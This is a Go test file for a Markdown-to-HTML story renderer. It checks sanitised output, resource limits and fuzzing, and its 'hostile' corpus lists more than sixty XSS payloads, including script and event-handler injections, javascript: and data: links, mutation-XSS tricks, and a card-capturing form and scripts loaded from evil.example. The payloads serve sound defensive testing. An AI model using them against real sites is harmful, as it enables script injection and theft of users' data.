package story

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

func TestAStoryKeepsWhatItSays(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"The water came.\n\nWe *ran*, **all** of us.":          "<p>The water came.</p>\n<p>We <em>ran</em>, <strong>all</strong> of us.</p>\n",
		"# Why\n\n## How\n\n#### When":                         "<h2>Why</h2>\n<h3>How</h3>\n<h4>When</h4>\n",
		"### Loud\n\n###### Quiet\n\n# Over":                   "<h2>Loud</h2>\n<h3>Quiet</h3>\n<h2>Over</h2>\n",
		"- a boat\n- two tents":                                "<ul>\n<li>a boat</li>\n<li>two tents</li>\n</ul>\n",
		"3. third\n4. fourth":                                  "<ol start=\"3\">\n<li>third</li>\n<li>fourth</li>\n</ol>\n",
		"> She said it.":                                       "<blockquote>\n<p>She said it.</p>\n</blockquote>\n",
		"See [the plan](https://example.org/p?a=1&b=2 \"x\").": `<p>See <a href="https://example.org/p?a=1&amp;b=2" rel="nofollow ugc noopener noreferrer">the plan</a>.</p>` + "\n",
		"https://example.org/a":                                `<p><a href="https://example.org/a" rel="nofollow ugc noopener noreferrer">https://example.org/a</a></p>` + "\n",
		"Write to <amina@example.org>":                         `<p>Write to <a href="mailto:amina@example.org" rel="nofollow ugc noopener noreferrer">amina@example.org</a></p>` + "\n",
		"![A boat](https://evil.example/pixel.gif)":            "<p>A boat</p>\n",
		"1 < 2 & 3 > 2":                                        "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n",
		"نهر  النيل":                                           "<p>نهر  النيل</p>\n",
		"":                                                     "",
	} {
		if got := string(HTML(source)); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", source, got, want)
		}
	}
}

// hostile are ways in that have worked somewhere.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
		`<a href="javascript:alert(1)">x</a>`, `<a onclick=alert(1) href="https://example.org">x</a>`,
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#115;cript:alert(1))`, "[x](java\tscript:alert(1))",
		`[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))`, `[x](\x01javascript:alert(1))`, "[x](\u0000javascript:alert(1))",
		`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:msgbox(1))`, `[x](file:///etc/passwd)`,
		`[x](//evil.example)`, `[x](/staff/people)`, `[x](https://example.org" onmouseover="alert(1))`, `[x](<javascript:alert(1)>)`,
		"[x]: javascript:alert(1)\n\n[x]", `<javascript:alert(1)>`, `<data:text/html,x>`,
		`![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zy8+)`, `![" onerror="alert(1)](x)`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<math><mi//xlink:href="data:x,<script>alert(4)</script>">`, `<math><mtext><table><mglyph><style><img src onerror=alert(1)>`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`, `<embed src="//evil.example">`,
		`<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example>`,
		`<form action="https://evil.example"><input name=card><button>Pay</button></form>`, `<style>body{background:url(//evil.example)}</style>`,
		`<p style="position:fixed;inset:0">x</p>`, `<div id=main class=errors>x</div>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`, `<!DOCTYPE html>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<body onload=alert(1)>`, `</main></body><script>alert(1)</script>`,
		"```html\n<script>alert(1)</script>\n```", "```\" onload=\"alert(1)\nx\n```", "`<script>alert(1)</script>`", "<p\n\nonclick=alert(1)>", "\u202e<script>\u202c", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
		"<scr\u0000ipt>alert(1)</scr\u0000ipt>", "\xff\xfe<script>alert(1)</script>", `<a href="https://example.org" target=_blank rel=opener>x</a>`,
		`<template><script>alert(1)</script></template>`, `<textarea></textarea><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><script>alert(1)</script></xmp>`,
		strings.Repeat("<script>alert(1)</script>", 50_000), // more than a megabyte
	}
}

// safe re-reads what a browser would get.
func safe(t interface {
	Helper()
	Errorf(string, ...any)
}, source, out string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader("<!doctype html><body>" + out))
	if err != nil {
		t.Errorf("%.80q: %v", source, err)
		return
	}
	elements := []string{
		"html", "head", "body", "p", "br", "hr", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "a",
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode && (!slices.Contains(elements, n.Data) || n.Namespace != "") {
			t.Errorf("%.80q: <%s> got through in %.200q", source, n.Data, out)
		}
		if n.Type == html.CommentNode {
			t.Errorf("%.80q: a comment got through", source)
		}
		for _, a := range n.Attr {
			switch n.Data + " " + a.Key {
			case "a href":
				address, err := url.Parse(a.Val)
				if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, address.Scheme) {
					t.Errorf("%.80q: leads to %q", source, a.Val)
				}
			case "a rel":
				if a.Val != rel {
					t.Errorf("%.80q: rel is %q", source, a.Val)
				}
			case "ol start":
			default:
				t.Errorf("%.80q: %s=%q got through", source, a.Key, a.Val)
			}
		}
		if n.Data == "a" && n.Type == html.ElementNode && len(n.Attr) != 2 {
			t.Errorf("%.80q: a link with %v", source, n.Attr)
		}
	}
	if _, allow := tools(); allow.Sanitize(out) != out {
		t.Errorf("%.80q: sanitising again changes %.200q", source, out)
	}
}

func TestNothingHostileGetsThrough(t *testing.T) {
	t.Parallel()
	if len(hostile()) < 60 {
		t.Fatalf("the corpus has shrunk to %d", len(hostile()))
	}
	for _, source := range hostile() {
		for _, around := range []string{"%s", "A story.\n\n%s\n\nIts end.", "- %s", "> %s", "**%s**", "[%s](https://example.org)", "# %s"} {
			text := fmt.Sprintf(around, source)
			safe(t, text, string(HTML(text)))
		}
	}
}

// However it is nested, reading a story is bounded work: what is begun and may be
// looked for the end of, what stands inside something else, and what is made of it.
func TestNoStoryIsMuchWork(t *testing.T) {
	t.Parallel()
	for _, piece := range []string{
		">", "> ", "- ", "* ", "1. ", "1) ", "[", "![", "[a](", "*a ", "**", "_", "`", "<", "<a ", "\\", "&", "(", "]", "- - 1. > ", "\n> ", "  - a\n",
		"[a]: b\n", "[a][", "a*b_", "***", "<!--", "http://", "www.a.", "a@b.c ", "```\n", "#\n", "\t", "*a_b*c_",
	} {
		source := strings.Repeat(piece, 1_000_000/len(piece))
		read := bounded(source)
		// What is written as plain text takes five bytes at most for one.
		if len(read) > 5*longest || strings.Count(read, "[") > mostBrackets || strings.Count(read, "*")+strings.Count(read, "_") > mostStars {
			t.Errorf("%q: %d bytes, %d brackets, %d stars are read", piece, len(read), strings.Count(read, "["), strings.Count(read, "*")+strings.Count(read, "_"))
		}
		write, _ := tools()
		parts, depth, deep := 0, 0, 0
		err := ast.Walk(write.Parser().Parse(text.NewReader([]byte(read))), func(_ ast.Node, entering bool) (ast.WalkStatus, error) {
			if entering {
				parts++
				depth++
				deep = max(deep, depth)
			} else {
				depth--
			}
			return ast.WalkContinue, nil
		})
		// A quote or an item of a list is two parts; inside there is a paragraph with
		// its text and what is emphasised in it.
		if err != nil || parts > 2*longest || deep > 2*deepest+mostStars {
			t.Errorf("%q: %d parts, %d inside each other: %v", piece, parts, deep, err)
		}
		out := string(HTML(source))
		safe(t, piece, out)
		if len(out) > 20*longest {
			t.Errorf("%q: %d bytes are made of it", piece, len(out))
		}
	}
	if out := string(HTML(strings.Repeat("> ", 1000) + "deep")); strings.Count(out, "<blockquote>") != deepest || !strings.Contains(out, "deep") {
		t.Errorf("%d quotes inside each other", strings.Count(out, "<blockquote>"))
	}
}

func TestWhateverIsWrittenIsSafe(t *testing.T) {
	t.Parallel()
	pieces := slices.Concat(hostile()[:len(hostile())-1], []string{"*", "_", "`", "[", "](", ")", "<", ">", "\n", "\n\n", "    ", "- ", "1. ", "# ", "&", "&lt;", "\"", "'", "a", "http://b.c", "](javascript:x)", "\\"})
	rapid.Check(t, func(t *rapid.T) {
		source := strings.Join(rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(pieces), rapid.String()), 0, 12).Draw(t, "pieces"), "")
		safe(t, source, string(HTML(source)))
	})
}

func FuzzHTML(f *testing.F) {
	for _, source := range hostile()[:20] {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) { safe(t, source, string(HTML(source))) })
}
